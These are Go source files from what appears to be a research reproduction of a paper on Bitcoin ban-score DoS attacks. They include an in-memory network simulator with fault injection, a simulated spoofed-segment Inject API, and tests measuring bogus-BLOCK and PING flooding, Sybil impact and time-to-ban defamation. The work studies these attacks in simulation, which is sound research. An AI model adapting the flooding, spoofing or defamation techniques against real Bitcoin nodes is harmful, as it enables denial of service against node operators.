	started bool
	closed  bool
}

// newFaultState binds one direction's fault plan. seq is the fabric's dial
// sequence number: mixing it into the RNG seed gives every connection on a
// link its own loss schedule (a retried dial must not replay the exact drop
// pattern that killed its predecessor) while the fabric as a whole stays
// reproducible — the dial order, and therefore every schedule, is a pure
// function of the test's actions and the configured Seed.
func newFaultState(plan FaultPlan, from, to Addr, seq uint64) *faultState {
	seed := plan.Seed
	if seed == 0 {
		seed = 0x5eedfa17
	}
	h := fnv.New64a()
	h.Write([]byte(from))
	h.Write([]byte{'|'})
	h.Write([]byte(to))
	fs := &faultState{
		plan: plan,
		rng:  rand.New(rand.NewSource(seed ^ int64(h.Sum64()) ^ int64(seq*0x9e3779b97f4a7c15))),
	}
	fs.cond = sync.NewCond(&fs.mu)
	return fs
}

// closeState wakes any producer blocked on the delay queue and lets the
// delivery goroutine drain out.
func (fs *faultState) closeState() {
	fs.mu.Lock()
	fs.closed = true
	fs.q = nil
	fs.cond.Broadcast()
	fs.mu.Unlock()
}

// writeFaulty is Conn.Write for a faulted direction: reset check, loss
// check, then either delayed or direct delivery.
func (c *Conn) writeFaulty(p []byte) (int, error) {
	fs := c.faults
	fs.mu.Lock()
	if fs.closed {
		fs.mu.Unlock()
		return 0, io.ErrClosedPipe
	}
	fs.sent += int64(len(p))
	if fs.plan.ResetAfterBytes > 0 && fs.sent > fs.plan.ResetAfterBytes {
		fs.mu.Unlock()
		c.network.faultResets.Add(1)
		c.reset()
		return 0, ErrConnReset
	}
	if fs.plan.DropRate > 0 && fs.rng.Float64() < fs.plan.DropRate {
		fs.mu.Unlock()
		c.network.faultDrops.Add(1)
		return len(p), nil
	}
	delay := fs.plan.Latency
	if fs.plan.Jitter > 0 {
		delay += time.Duration(fs.rng.Int63n(int64(fs.plan.Jitter)))
	}
	if delay <= 0 {
		fs.mu.Unlock()
		n, err := c.send.write(p)
		if err != nil {
			return n, err
		}
		c.observeDelivery(p[:n])
		return n, nil
	}

	// Delayed delivery: enqueue a copy (the caller may reuse p) for the
	// wire goroutine, which preserves FIFO order like a TCP stream.
	for len(fs.q) >= maxDelayQueue && !fs.closed {
		fs.cond.Wait()
	}
	if fs.closed {
		fs.mu.Unlock()
		return 0, io.ErrClosedPipe
	}
	data := make([]byte, len(p))
	copy(data, p)
	fs.q = append(fs.q, delayedWrite{data: data, due: clk.Now().Add(delay)})
	if !fs.started {
		fs.started = true
		go c.deliveryLoop(fs)
	}
	fs.cond.Broadcast()
	fs.mu.Unlock()
	c.network.faultDelayed.Add(1)
	return len(p), nil
}

// deliveryLoop drains the delayed-write queue of one faulted direction,
// holding each payload until its due time. It exits when the connection
// closes or the receiving half dies.
func (c *Conn) deliveryLoop(fs *faultState) {
	for {
		fs.mu.Lock()
		for len(fs.q) == 0 && !fs.closed {
			fs.cond.Wait()
		}
		if len(fs.q) == 0 {
			fs.mu.Unlock()
			return
		}
		dw := fs.q[0]
		fs.q = fs.q[1:]
		fs.cond.Broadcast() // room for blocked producers
		fs.mu.Unlock()

		if d := clk.Until(dw.due); d > 0 {
			clk.Sleep(d)
		}
		if _, err := c.send.write(dw.data); err != nil {
			fs.closeState()
			return
		}
		c.observeDelivery(dw.data)
	}
}

// linkKey identifies one direction of a link in the fault table. Either
// side may be an exact "host:port", a bare "host", or the wildcard "*".
type linkKey struct {
	from, to string
}

// hostOf strips the port from an address ("10.0.0.1:8333" → "10.0.0.1").
func hostOf(addr string) string {
	if i := strings.LastIndex(addr, ":"); i >= 0 {
		return addr[:i]
	}
	return addr
}

// SetDefaultFaults installs (or with nil clears) the plan applied to every
// direction of every subsequently dialed connection that has no more
// specific link plan. Established connections keep the plan they were
// dialed under — a repaired fabric does not heal a flaky path in place.
func (n *Network) SetDefaultFaults(plan *FaultPlan) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.defaultFaults = plan
	n.recountFaults()
}

// SetLinkFaults installs a plan for the from→to direction only (one-way
// degradation). from and to may each be an exact "host:port", a bare host,
// or "*". A nil plan removes the entry. Two-way plans are two calls.
func (n *Network) SetLinkFaults(from, to string, plan *FaultPlan) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.linkFaults == nil {
		n.linkFaults = make(map[linkKey]*FaultPlan)
	}
	k := linkKey{from: from, to: to}
	if plan == nil {
		delete(n.linkFaults, k)
	} else {
		n.linkFaults[k] = plan
	}
	n.recountFaults()
}

// SetLinkFaultsBoth installs the same plan on both directions of a link.
func (n *Network) SetLinkFaultsBoth(a, b string, plan *FaultPlan) {
	n.SetLinkFaults(a, b, plan)
	n.SetLinkFaults(b, a, plan)
}

// FailNextDials deterministically kills the next count dials whose target
// matches to (exact address, bare host, or "*"), regardless of source —
// the focused tool for reconnection regression tests. It stacks with any
// probabilistic DialFailRate.
func (n *Network) FailNextDials(to string, count int) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.failNextDials == nil {
		n.failNextDials = make(map[string]int)
	}
	if count <= 0 {
		delete(n.failNextDials, to)
	} else {
		n.failNextDials[to] = count
	}
	n.recountFaults()
}

// recountFaults refreshes the cheap Dial-path guard. Caller holds n.mu.
func (n *Network) recountFaults() {
	if n.defaultFaults.active() || len(n.linkFaults) > 0 || len(n.failNextDials) > 0 {
		n.faultsActive.Store(1)
	} else {
		n.faultsActive.Store(0)
	}
}

// resolveFaults returns the plan governing the from→to direction, or nil.
// Specificity wins: exact endpoints beat bare hosts beat wildcards beat the
// fabric default. Caller holds n.mu.
func (n *Network) resolveFaults(from, to Addr) *FaultPlan {
	if len(n.linkFaults) > 0 {
		froms := [3]string{string(from), hostOf(string(from)), "*"}
		tos := [3]string{string(to), hostOf(string(to)), "*"}
		for _, f := range froms {
			for _, t := range tos {
				if plan, ok := n.linkFaults[linkKey{from: f, to: t}]; ok {
					return plan
				}
			}
		}
	}
	return n.defaultFaults
}

// consumeFailNext reports whether a dial to `to` should be killed by a
// pending FailNextDials budget, decrementing it. Caller holds n.mu.
func (n *Network) consumeFailNext(to Addr) bool {
	if len(n.failNextDials) == 0 {
		return false
	}
	for _, key := range [3]string{string(to), hostOf(string(to)), "*"} {
		if left, ok := n.failNextDials[key]; ok && left > 0 {
			if left == 1 {
				delete(n.failNextDials, key)
			} else {
				n.failNextDials[key] = left - 1
			}
			n.recountFaults()
			return true
		}
	}
	return false
}

// checkDialFaults applies partition, deterministic, and plan-level dial
// faults for a from→to dial. It returns a non-nil error when the dial must
// fail, and otherwise the plans to bind to each direction of the new
// connection. Called with n.mu held; may unlock/relock for blackhole waits
// — it returns locked == false when it failed after unlocking.
func (n *Network) checkDialFaults(from, to Addr) (c2s, s2c *FaultPlan, err error, locked bool) {
	if n.partActive.Load() != 0 && n.isPartitionedLocked(from, to) {
		n.faultDialsFailed.Add(1)
		return nil, nil, fmt.Errorf("%w: %s -> %s", ErrUnreachable, from, to), true
	}
	if n.faultsActive.Load() == 0 {
		return nil, nil, nil, true
	}
	if n.consumeFailNext(to) {
		n.faultDialsFailed.Add(1)
		return nil, nil, fmt.Errorf("%w: %s -> %s", ErrInjectedDialFailure, from, to), true
	}
	c2s = n.resolveFaults(from, to)
	s2c = n.resolveFaults(to, from)
	if c2s.active() && (c2s.DialFailRate > 0 || c2s.DialBlackhole) {
		// Dial-level faults draw from a transient state so the decision
		// is still seeded by (plan, link, attempt).
		fs := newFaultState(*c2s, from, to, n.faultSeq.Add(1))
		if c2s.DialBlackhole {
			delay := c2s.BlackholeDelay
			if delay == 0 {
				delay = DefaultBlackholeDelay
			}
			n.mu.Unlock()
			clk.Sleep(delay)
			n.faultDialsFailed.Add(1)
			return nil, nil, fmt.Errorf("dial %s -> %s: %w", from, to, ErrDialTimeout), false
		}
		if fs.rng.Float64() < c2s.DialFailRate {
			n.faultDialsFailed.Add(1)
			return nil, nil, fmt.Errorf("%w: %s -> %s", ErrInjectedDialFailure, from, to), true
		}
	}
	return c2s, s2c, nil, true
}

// partition is one named bisection of the fabric.
type partition struct {
	sideA map[string]struct{} // hosts and exact addrs
	sideB map[string]struct{}
}

func (p *partition) severs(a, b Addr) bool {
	return (p.contains(p.sideA, a) && p.contains(p.sideB, b)) ||
		(p.contains(p.sideA, b) && p.contains(p.sideB, a))
}

func (p *partition) contains(side map[string]struct{}, addr Addr) bool {
	if _, ok := side[string(addr)]; ok {
		return true
	}
	_, ok := side[hostOf(string(addr))]
	return ok
}

func toSet(members []string) map[string]struct{} {
	set := make(map[string]struct{}, len(members))
	for _, m := range members {
		set[m] = struct{}{}
	}
	return set
}

// Partition installs (or replaces) a named bisection: traffic between any
// address in sideA and any in sideB is blackholed, and dials across the cut
// fail with ErrUnreachable, until Heal(name). Members are exact "host:port"
// addresses or bare hosts. Existing connections are not closed — like a
// real routing partition, endpoints only notice through silence (read
// deadlines, idle timeouts).
func (n *Network) Partition(name string, sideA, sideB []string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.partitions == nil {
		n.partitions = make(map[string]*partition)
	}
	if _, existed := n.partitions[name]; !existed {
		n.partActive.Add(1)
	}
	n.partitions[name] = &partition{sideA: toSet(sideA), sideB: toSet(sideB)}
}

// Heal removes the named partition. Healing an unknown name is a no-op.
func (n *Network) Heal(name string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if _, ok := n.partitions[name]; ok {
		delete(n.partitions, name)
		n.partActive.Add(-1)
	}
}

// HealAll removes every partition.
func (n *Network) HealAll() {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.partActive.Add(-int32(len(n.partitions)))
	n.partitions = nil
}

// Partitioned reports whether traffic between a and b currently crosses an
// active partition.
func (n *Network) Partitioned(a, b string) bool {
	if n.partActive.Load() == 0 {
		return false
	}
	return n.isPartitioned(Addr(a), Addr(b))
}

func (n *Network) isPartitioned(a, b Addr) bool {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.isPartitionedLocked(a, b)
}

// isPartitionedLocked is isPartitioned with n.mu held.
func (n *Network) isPartitionedLocked(a, b Addr) bool {
	for _, p := range n.partitions {
		if p.severs(a, b) {
			return true
		}
	}
	return false
}

// FaultStats is a snapshot of the fault layer's injection counters.
type FaultStats struct {
	// PayloadsDropped counts writes discarded by DropRate or blackholed
	// by a partition.
	PayloadsDropped uint64

	// PayloadsDelayed counts writes that traversed a latency queue.
	PayloadsDelayed uint64

	// ConnsReset counts connections killed by ResetAfterBytes.
	ConnsReset uint64

	// DialsFailed counts dials killed by injected failures, blackholes,
	// or partitions.
	DialsFailed uint64
}

// FaultStats returns the fault layer's injection counters.
func (n *Network) FaultStats() FaultStats {
	return FaultStats{
		PayloadsDropped: n.faultDrops.Load(),
		PayloadsDelayed: n.faultDelayed.Load(),
		ConnsReset:      n.faultResets.Load(),
		DialsFailed:     n.faultDialsFailed.Load(),
	}
}
