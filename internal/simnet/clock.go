package simnet

import "banscore/internal/vclock"

// clk is the fabric's single time source. Every deadline, latency queue,
// and blackhole delay in the package reads it instead of package time, so
// the banlint wallclock analyzer can prove the substrate has exactly one
// (injectable) wall-clock dependence. Tests that need virtual time swap
// it via SetClock.
var clk = vclock.System()

// SetClock replaces the package clock and returns the previous one.
// Intended for tests; not safe to call while connections are live.
func SetClock(c vclock.Clock) vclock.Clock {
	old := clk
	clk = c
	return old
}
