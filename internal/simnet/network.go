package simnet

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"

	"banscore/internal/trace"
)

// Errors returned by network operations.
var (
	// ErrAddrInUse: the listen address is taken.
	ErrAddrInUse = errors.New("simnet: address already in use")

	// ErrConnRefused: nothing is listening at the dial target.
	ErrConnRefused = errors.New("simnet: connection refused")

	// ErrNetClosed: the listener or network has been closed.
	ErrNetClosed = errors.New("simnet: use of closed network connection")

	// ErrConnNotFound: no active connection matches the endpoints.
	ErrConnNotFound = errors.New("simnet: no such connection")
)

// link identifies one direction of a connection.
type link struct {
	from Addr
	to   Addr
}

// Network is the in-memory network fabric. It is safe for concurrent use.
type Network struct {
	mu        sync.Mutex
	listeners map[Addr]*Listener
	conns     map[*Conn]struct{}
	sniffers  []*Sniffer
	rxBytes   map[Addr]uint64
	rxPackets map[Addr]uint64
	closed    bool

	// listenBacklog overrides the per-listener accept queue depth (the
	// default 128 models a kernel SOMAXCONN; swarm harnesses admitting
	// tens of thousands of peers raise it via SetListenBacklog).
	listenBacklog int

	// snifferCount gates the delivery fast path: while zero, writes
	// account into per-Conn atomics and never touch mu.
	snifferCount atomic.Int32

	drops atomic.Uint64

	// Fault layer (see faults.go). faultsActive and partActive are cheap
	// guards so the fault-free fast paths pay one atomic load at most.
	defaultFaults *FaultPlan
	linkFaults    map[linkKey]*FaultPlan
	failNextDials map[string]int
	partitions    map[string]*partition
	faultsActive  atomic.Int32
	partActive    atomic.Int32
	faultSeq      atomic.Uint64

	faultDrops       atomic.Uint64
	faultDelayed     atomic.Uint64
	faultResets      atomic.Uint64
	faultDialsFailed atomic.Uint64

	// tracer, when set, samples connection writes into conn_write
	// lifecycle spans. Atomic so the write hot path pays one pointer
	// load when tracing is not installed.
	tracer atomic.Pointer[trace.Tracer]
}

// NewNetwork returns an empty fabric.
func NewNetwork() *Network {
	return &Network{
		listeners: make(map[Addr]*Listener),
		conns:     make(map[*Conn]struct{}),
		rxBytes:   make(map[Addr]uint64),
		rxPackets: make(map[Addr]uint64),
	}
}

// Listener accepts simnet connections at a fixed address.
type Listener struct {
	network *Network
	addr    Addr

	mu      sync.Mutex
	backlog chan *Conn
	closed  bool
}

var _ net.Listener = (*Listener)(nil)

// Listen binds a listener to addr (e.g. "10.0.0.1:8333").
func (n *Network) Listen(addr string) (*Listener, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.closed {
		return nil, ErrNetClosed
	}
	a := Addr(addr)
	if _, taken := n.listeners[a]; taken {
		return nil, fmt.Errorf("%w: %s", ErrAddrInUse, addr)
	}
	backlog := n.listenBacklog
	if backlog <= 0 {
		backlog = 128
	}
	l := &Listener{
		network: n,
		addr:    a,
		backlog: make(chan *Conn, backlog),
	}
	n.listeners[a] = l
	return l, nil
}

// SetListenBacklog sets the accept queue depth for listeners bound after
// the call (n <= 0 restores the default 128). A swarm scenario dialing
// faster than the victim accepts needs more than a kernel-sized backlog to
// avoid spurious connection-refused churn.
func (n *Network) SetListenBacklog(depth int) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.listenBacklog = depth
}

// Accept implements net.Listener.
func (l *Listener) Accept() (net.Conn, error) {
	conn, ok := <-l.backlog
	if !ok {
		return nil, ErrNetClosed
	}
	return conn, nil
}

// Close implements net.Listener.
func (l *Listener) Close() error {
	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		return nil
	}
	l.closed = true
	close(l.backlog)
	l.mu.Unlock()

	l.network.mu.Lock()
	delete(l.network.listeners, l.addr)
	l.network.mu.Unlock()
	return nil
}

// Addr implements net.Listener.
func (l *Listener) Addr() net.Addr { return l.addr }

// Dial connects from the given source address to a listening target. The
// source address is caller-chosen — simnet, like the open internet the
// paper's threat model assumes, performs no source validation, which is
// precisely what makes Sybil identifiers and spoofing free.
func (n *Network) Dial(from, to string) (*Conn, error) {
	n.mu.Lock()
	if n.closed {
		n.mu.Unlock()
		return nil, ErrNetClosed
	}
	c2sPlan, s2cPlan, faultErr, locked := n.checkDialFaults(Addr(from), Addr(to))
	if faultErr != nil {
		if locked {
			n.mu.Unlock()
		}
		return nil, faultErr
	}
	l, ok := n.listeners[Addr(to)]
	if !ok {
		n.mu.Unlock()
		return nil, fmt.Errorf("%w: %s", ErrConnRefused, to)
	}

	clientToServer := newPipeHalf()
	serverToClient := newPipeHalf()
	client := &Conn{
		network: n,
		local:   Addr(from),
		remote:  Addr(to),
		recv:    serverToClient,
		send:    clientToServer,
	}
	server := &Conn{
		network: n,
		local:   Addr(to),
		remote:  Addr(from),
		recv:    clientToServer,
		send:    serverToClient,
	}
	if c2sPlan.active() {
		client.faults = newFaultState(*c2sPlan, client.local, client.remote, n.faultSeq.Add(1))
	}
	if s2cPlan.active() {
		server.faults = newFaultState(*s2cPlan, server.local, server.remote, n.faultSeq.Add(1))
	}
	n.conns[client] = struct{}{}
	n.conns[server] = struct{}{}
	n.mu.Unlock()

	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		client.Close()
		return nil, ErrConnRefused
	}
	select {
	case l.backlog <- server:
		l.mu.Unlock()
		return client, nil
	default:
		l.mu.Unlock()
		client.Close()
		return nil, fmt.Errorf("%w: accept backlog full at %s", ErrConnRefused, to)
	}
}

// SetTracer installs (or, with nil, removes) the lifecycle tracer sampling
// fabric writes. Connections observe the change immediately.
func (n *Network) SetTracer(t *trace.Tracer) { n.tracer.Store(t) }

// FindConn returns the active connection endpoint whose local/remote
// addresses match (the victim-side endpoint of the from→to stream). An
// attacker does not call this directly — it sniffs to learn endpoints — but
// the injection API needs a handle.
func (n *Network) FindConn(local, remote string) (*Conn, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	for c := range n.conns {
		if c.local == Addr(local) && c.remote == Addr(remote) {
			return c, nil
		}
	}
	return nil, fmt.Errorf("%w: %s <- %s", ErrConnNotFound, local, remote)
}

// Inject delivers data into the receive stream of the connection endpoint
// at `to` as if it had been sent by `from` — the simulation of spoofed TCP
// segment injection. The caller must present the stream's current sequence
// number (learned by sniffing, per Algorithm 1 of the paper); a mismatch is
// discarded like an out-of-window segment.
func (n *Network) Inject(from, to string, seq uint64, data []byte) error {
	victim, err := n.FindConn(to, from)
	if err != nil {
		return err
	}
	// The receive half's seq counts every byte enqueued toward `to`.
	if got := victim.recv.sequence(); got != seq {
		return fmt.Errorf("%w: claimed %d, stream at %d", ErrSeqMismatch, seq, got)
	}
	if _, err := victim.recv.write(data); err != nil {
		return err
	}
	n.observe(Addr(from), Addr(to), data)
	return nil
}

// dropConn removes a closed connection endpoint, folding its fast-path
// delivery counters into the per-address totals so accounting survives
// churn.
func (n *Network) dropConn(c *Conn) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if b := c.rxBytes.Swap(0); b != 0 {
		n.rxBytes[c.remote] += b
	}
	if p := c.rxPackets.Swap(0); p != 0 {
		n.rxPackets[c.remote] += p
	}
	delete(n.conns, c)
}

// observe mirrors delivered bytes to sniffers and bandwidth counters.
func (n *Network) observe(from, to Addr, data []byte) {
	n.mu.Lock()
	n.rxBytes[to] += uint64(len(data))
	n.rxPackets[to]++
	taps := make([]*Sniffer, len(n.sniffers))
	copy(taps, n.sniffers)
	n.mu.Unlock()
	for _, s := range taps {
		s.deliver(from, to, data)
	}
}

// BytesDelivered returns the total bytes delivered to addr — the victim's
// consumed bandwidth ("Bandwidth DoSed" in Table III). Live connections'
// fast-path counters are summed in, so the figure is exact at any moment.
func (n *Network) BytesDelivered(addr string) uint64 {
	n.mu.Lock()
	defer n.mu.Unlock()
	total := n.rxBytes[Addr(addr)]
	for c := range n.conns {
		if c.remote == Addr(addr) {
			total += c.rxBytes.Load()
		}
	}
	return total
}

// PacketsDelivered returns the number of writes delivered to addr.
func (n *Network) PacketsDelivered(addr string) uint64 {
	n.mu.Lock()
	defer n.mu.Unlock()
	total := n.rxPackets[Addr(addr)]
	for c := range n.conns {
		if c.remote == Addr(addr) {
			total += c.rxPackets.Load()
		}
	}
	return total
}

// PacketsDropped returns how many datagrams the fabric discarded because the
// destination host's queue was full — the flooded-NIC loss an ICMP storm
// produces.
func (n *Network) PacketsDropped() uint64 { return n.drops.Load() }

// ResetCounters zeroes the bandwidth accounting.
func (n *Network) ResetCounters() {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.rxBytes = make(map[Addr]uint64)
	n.rxPackets = make(map[Addr]uint64)
	for c := range n.conns {
		c.rxBytes.Store(0)
		c.rxPackets.Store(0)
	}
}

// Close shuts the fabric down: all listeners and connections are closed.
func (n *Network) Close() {
	n.mu.Lock()
	n.closed = true
	listeners := make([]*Listener, 0, len(n.listeners))
	for _, l := range n.listeners {
		listeners = append(listeners, l)
	}
	conns := make([]*Conn, 0, len(n.conns))
	for c := range n.conns {
		conns = append(conns, c)
	}
	n.mu.Unlock()

	for _, l := range listeners {
		l.Close()
	}
	for _, c := range conns {
		c.Close()
	}
}
