package experiments

import (
	"strings"
	"testing"
	"time"

	"banscore/internal/core"
)

// The experiment tests assert the SHAPES the paper reports — who wins, by
// roughly what factor, where the qualitative crossovers fall — not absolute
// numbers, which depend on the host.

func TestTable1RendersAllRules(t *testing.T) {
	res := Table1()
	if len(res.Rules) != 19 {
		t.Fatalf("rules = %d, want 19", len(res.Rules))
	}
	out := res.Render()
	for _, want := range []string{
		"BLOCK", "Block data was mutated", "Duplicate VERSION",
		"More than 50000 inventory entries", "Outbound peer",
		"12 of the 26",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("Table I render missing %q", want)
		}
	}
	// Deprecations render as "-".
	if !strings.Contains(out, "-") {
		t.Error("no deprecated cells rendered")
	}
}

func TestTable2Shapes(t *testing.T) {
	res, err := Table2(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 18 {
		t.Fatalf("rows = %d, want the 18 measured message types", len(res.Rows))
	}
	if res.Render() == "" {
		t.Error("empty render")
	}

	// The impact-cost ratios below are per-message CPU measurements; the
	// race detector inflates processing and crafting unevenly, so the
	// magnitude and ordering checks run only in uninstrumented builds.
	if raceEnabled {
		t.Skip("impact-cost ratio assertions need uninstrumented timing")
	}

	top := res.TopByRatio()
	if top[0] != "BLOCK" {
		t.Errorf("highest ratio = %s, want BLOCK (paper: 26323)", top[0])
	}
	if top[1] != "BLOCKTXN" {
		t.Errorf("runner-up = %s, want BLOCKTXN (paper: 5849)", top[1])
	}
	if top[2] != "CMPCTBLOCK" {
		t.Errorf("third = %s, want CMPCTBLOCK (paper: 3192)", top[2])
	}

	block, _ := res.Row("BLOCK")
	blockTxn, _ := res.Row("BLOCKTXN")
	if block.Ratio < 2*blockTxn.Ratio {
		t.Errorf("BLOCK ratio %.0f should clearly dominate BLOCKTXN %.0f", block.Ratio, blockTxn.Ratio)
	}

	// Oversize messages cost the attacker more than the victim.
	for _, name := range []string{"ADDR", "INV", "GETDATA", "HEADERS"} {
		row, ok := res.Row(name)
		if !ok {
			t.Fatalf("missing row %s", name)
		}
		if row.Ratio >= 0.5 {
			t.Errorf("%s ratio = %.4f, want << 1 (attacker pays for oversize crafting)", name, row.Ratio)
		}
	}

	// TX processing is meaningfully more expensive than crafting.
	tx, _ := res.Row("TX")
	if tx.Ratio < 1 {
		t.Errorf("TX ratio = %.2f, want > 1 (paper: 11.16)", tx.Ratio)
	}
}

func TestFigure6Shapes(t *testing.T) {
	res, err := Figure6(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	if res.Baseline() <= 0 {
		t.Fatal("no baseline mining rate")
	}

	// All comparisons run on each configuration's paired Impact (mining
	// under flood / same run's idle rate), which cancels host-level drift
	// between configurations the way Table III's MiningRatio does.
	impact := func(attack string, sybils int) float64 {
		for _, row := range res.Rows {
			if row.Attack == attack && row.Sybils == sybils {
				return row.Impact()
			}
		}
		t.Fatalf("missing %s/%d", attack, sybils)
		return 0
	}
	// The remaining assertions compare attack-impact magnitudes, which are
	// per-message cost ratios, and the paired-control sanity band, which
	// assumes steady idle throughput. The race detector multiplies
	// per-message processing cost by roughly an order of magnitude and adds
	// scheduling jitter, flattening the BLOCK-vs-PING asymmetry the figure
	// measures, so the shape checks run only in uninstrumented builds (the
	// runner above still exercises the full flood machinery for race
	// coverage).
	if raceEnabled {
		t.Skip("impact-shape assertions need uninstrumented timing")
	}

	control := impact("none", 0)
	if control < 0.85 || control > 1.15 {
		t.Fatalf("no-flood control impact %.2f far from 1.0 — pairing is broken", control)
	}

	// No flood configuration may look better than idle: every row gets the
	// same +15% pairing-noise ceiling the control is held to. (Comparing
	// against the measured control instead would stack the noise of two
	// independent paired runs — under full-suite parallelism the control
	// itself wanders within its band.) PING/1 in particular is rate-bound
	// and barely dents mining (the figure's PING curve starts near the
	// baseline), so it gets no suppression floor, only this ceiling.
	for _, row := range res.Rows {
		if row.Attack == "none" {
			continue
		}
		if got := row.Impact(); got >= 1.15 {
			t.Errorf("%s/%d impact %.2f above the idle noise ceiling 1.15", row.Attack, row.Sybils, got)
		}
	}
	// Heavy configurations visibly suppress mining: a single bogus-BLOCK
	// flooder (the paper's headline per-message cost asymmetry) and every
	// 10- and 20-Sybil flood.
	for _, heavy := range []struct {
		attack string
		sybils int
	}{{"BLOCK", 1}, {"BLOCK", 10}, {"BLOCK", 20}, {"PING", 10}, {"PING", 20}} {
		if got := impact(heavy.attack, heavy.sybils); got >= 0.7 {
			t.Errorf("%s/%d impact %.2f, want < 0.7", heavy.attack, heavy.sybils, got)
		}
	}
	// The paper's headline: bogus-BLOCK flooding hurts more than PING
	// flooding at a single connection.
	if block1, ping1 := impact("BLOCK", 1), impact("PING", 1); block1 >= ping1 {
		t.Errorf("BLOCK/1 impact %.2f should be below PING/1 %.2f", block1, ping1)
	}
	// More Sybil connections increase the impact.
	if block10, block1 := impact("BLOCK", 10), impact("BLOCK", 1); block10 >= block1 {
		t.Errorf("BLOCK/10 impact %.2f should be below BLOCK/1 %.2f", block10, block1)
	}
	if ping10, ping1 := impact("PING", 10), impact("PING", 1); ping10 >= ping1 {
		t.Errorf("PING/10 impact %.2f should be below PING/1 %.2f", ping10, ping1)
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestTable3Shapes(t *testing.T) {
	res, err := Table3(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 7 {
		t.Fatalf("rows = %d, want 7", len(res.Rows))
	}

	// Bandwidth scales with the flooding rate within each layer.
	icmp3, _ := res.Row("ICMP ping", 1e3)
	icmp6, _ := res.Row("ICMP ping", 1e6)
	if icmp6.BandwidthKb <= icmp3.BandwidthKb*10 {
		t.Errorf("ICMP bandwidth did not scale: %.1f at 10^3 vs %.1f at 10^6",
			icmp3.BandwidthKb, icmp6.BandwidthKb)
	}
	// Only the network layer reaches 10^6/s; the attacker's CPU grows
	// with the rate.
	icmp2, _ := res.Row("ICMP ping", 1e2)
	if icmp6.AttackerCPU <= icmp2.AttackerCPU {
		t.Errorf("ICMP CPU did not grow with rate: %.2f%% vs %.2f%%", icmp2.AttackerCPU, icmp6.AttackerCPU)
	}
	// The application-layer sender allocates more per message than the
	// network-layer one (paper: 14.34 MB vs 2.048 MB).
	btc3, _ := res.Row("Bitcoin PING", 1e3)
	if btc3.AttackerMem <= icmp3.AttackerMem {
		t.Errorf("Bitcoin PING mem %.3f MB should exceed ICMP mem %.3f MB",
			btc3.AttackerMem, icmp3.AttackerMem)
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestFigure7Shapes(t *testing.T) {
	res, err := Figure7(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	if res.Baseline <= 0 {
		t.Fatal("no baseline")
	}
	// At the highest matched rate, the application-layer flood (full
	// message pipeline per packet) must hurt the mining rate more than
	// the kernel-path ICMP flood — the paper's §VI-C claim. The paired
	// on/off ratio is used because it cancels host-level noise, but the
	// race detector's instrumentation still swamps the layer asymmetry,
	// so the comparison runs only in uninstrumented builds.
	if raceEnabled {
		t.Skip("matched-rate impact comparison needs uninstrumented timing")
	}
	btc, ok := res.Row("Bitcoin PING", 1e5)
	if !ok {
		t.Fatal("missing Bitcoin PING @ 1e5")
	}
	icmp, ok := res.Row("ICMP ping", 1e5)
	if !ok {
		t.Fatal("missing ICMP @ 1e5")
	}
	if btc.MiningRatio >= icmp.MiningRatio {
		t.Errorf("matched-rate impact: Bitcoin PING ratio %.2f should be below ICMP ratio %.2f",
			btc.MiningRatio, icmp.MiningRatio)
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestFigure8Shapes(t *testing.T) {
	res, err := Figure8(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("rows = %d, want 2 delays", len(res.Rows))
	}
	noDelay, withDelay := res.Rows[0], res.Rows[1]
	if noDelay.Delay != 0 || withDelay.Delay != time.Millisecond {
		t.Fatalf("unexpected delays %v / %v", noDelay.Delay, withDelay.Delay)
	}

	// Paper: no delay bans in ~0.1 s, 1 ms delay in ~0.2 s — i.e. the
	// delayed variant takes longer. Both quantities are wall-clock, so
	// the comparison only holds without race-detector inflation.
	if !raceEnabled {
		if noDelay.TimeToBan.Mean >= withDelay.TimeToBan.Mean {
			t.Errorf("time-to-ban: no-delay %.4f s should be below 1ms-delay %.4f s",
				noDelay.TimeToBan.Mean, withDelay.TimeToBan.Mean)
		}
		// With pacing, the ban needs exactly the 100 duplicate VERSIONs the
		// threshold implies (the victim may drain a few extra from the pipe).
		if withDelay.MessagesToBan.Mean < 100 || withDelay.MessagesToBan.Mean > 120 {
			t.Errorf("paced messages-to-ban = %.1f, want ≈ 100", withDelay.MessagesToBan.Mean)
		}
	}
	// The full-IP projection uses all 16384 ephemeral ports.
	if withDelay.FullIPDefamation <= 0 {
		t.Error("no full-IP projection")
	}
	if got := PaperFullIPEstimate().Minutes(); got < 81.9 || got > 82.0 {
		t.Errorf("paper estimate = %.2f min, want 81.92", got)
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestFigure10Shapes(t *testing.T) {
	res, err := Figure10(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	// Thresholds should resemble the paper's trained values.
	th := res.Thresholds
	if th.NMin > 320 || th.NMax < 320 || th.NMin < 180 || th.NMax > 480 {
		t.Errorf("τ_n = [%.0f, %.0f], want a band around 320 like the paper's [252, 390]", th.NMin, th.NMax)
	}
	if th.LambdaMin < 0.9 {
		t.Errorf("τ_Λ = %.3f, want high like the paper's 0.993", th.LambdaMin)
	}

	normal, _ := res.Case("normal")
	dos, _ := res.Case("under-BM-DoS")
